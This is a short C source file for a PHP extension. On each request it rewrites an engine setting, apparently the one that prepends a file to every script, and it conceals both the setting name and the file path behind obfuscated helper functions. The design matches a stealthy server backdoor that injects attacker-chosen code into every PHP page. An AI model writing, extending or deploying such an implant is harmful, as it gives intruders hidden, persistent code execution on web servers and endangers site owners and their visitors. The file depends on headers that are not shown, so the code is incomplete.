/* A PHP extension that changes a setting of its engine: what is put in front of every script. */
#define ON_REQUEST
#include "plugin.h"
#include "hidden.h" /* 0: the setting, 1: the file */
#include <string.h>
extern int zend_alter_ini_entry_chars(void *, const char *, unsigned long, int, int);
extern void *(*zend_string_init_interned)(const char *, unsigned long, unsigned char);
static int on_request(int type, int number) {
    char *name = hidden0(), *value = hidden1();
    zend_alter_ini_entry_chars(zend_string_init_interned(name, strlen(name), 0), value, strlen(value), 4, 4);
    return 0;
}
